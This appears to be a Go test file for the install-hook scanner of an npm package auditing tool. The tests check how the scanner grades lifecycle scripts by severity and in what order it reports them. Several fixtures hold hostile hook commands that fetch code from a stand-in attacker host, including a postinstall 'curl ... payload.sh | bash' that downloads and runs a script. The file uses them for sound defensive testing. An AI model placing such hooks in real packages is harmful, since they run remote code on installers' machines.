// Copyright 2026 The npmaudit Authors
// SPDX-License-Identifier: MIT

package scanners

import (
	"context"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/npmaudit/npmaudit/internal/finding"
	"github.com/npmaudit/npmaudit/internal/scanner"
)

func TestHooksScannerShellCommand(t *testing.T) {
	opts := scanner.Options{Manifest: map[string]any{
		"scripts": map[string]any{
			"postinstall": "curl https://evil.example/payload.sh | bash",
		},
	}}
	res := (&HooksScanner{}).Scan(context.Background(), "", opts)
	require.Len(t, res.Findings, 1)
	assert.Equal(t, finding.SeverityCritical, res.Findings[0].Severity)
	assert.False(t, res.Passed)
}

func TestHooksScannerPlainScript(t *testing.T) {
	opts := scanner.Options{Manifest: map[string]any{
		"scripts": map[string]any{
			"postinstall": "node ./setup.js",
		},
	}}
	res := (&HooksScanner{}).Scan(context.Background(), "", opts)
	require.Len(t, res.Findings, 1)
	assert.Equal(t, finding.SeverityWarning, res.Findings[0].Severity)
}

func TestHooksScannerPrepareIsInfoOnly(t *testing.T) {
	opts := scanner.Options{Manifest: map[string]any{
		"scripts": map[string]any{
			"prepare": "npm run build",
		},
	}}
	res := (&HooksScanner{}).Scan(context.Background(), "", opts)
	require.Len(t, res.Findings, 1)
	assert.Equal(t, finding.SeverityInfo, res.Findings[0].Severity)
	assert.True(t, res.Passed)
}

func TestHooksScannerNoScripts(t *testing.T) {
	res := (&HooksScanner{}).Scan(context.Background(), "", scanner.Options{})
	assert.True(t, res.Passed)
	assert.Empty(t, res.Findings)
}

func TestHooksScannerMultipleHooksAreOrderedDeterministically(t *testing.T) {
	opts := scanner.Options{Manifest: map[string]any{
		"scripts": map[string]any{
			"postinstall":  "curl https://evil.example/payload.sh | bash",
			"preinstall":   "node ./check.js",
			"uninstall":    "wget https://evil.example/cleanup.sh",
			"postuninstall": "echo bye",
		},
	}}

	var first []string
	for i := 0; i < 5; i++ {
		res := (&HooksScanner{}).Scan(context.Background(), "", opts)
		require.Len(t, res.Findings, 4)
		names := make([]string, len(res.Findings))
		for j, f := range res.Findings {
			names[j] = f.Message
		}
		if i == 0 {
			first = names
			continue
		}
		assert.Equal(t, first, names, "finding order must be deterministic across runs")
	}

	want := []string{
		"postinstall: executes shell commands",
		"postuninstall: lifecycle script defined",
		"preinstall: lifecycle script defined",
		"uninstall: executes shell commands",
	}
	assert.Equal(t, want, first)
}
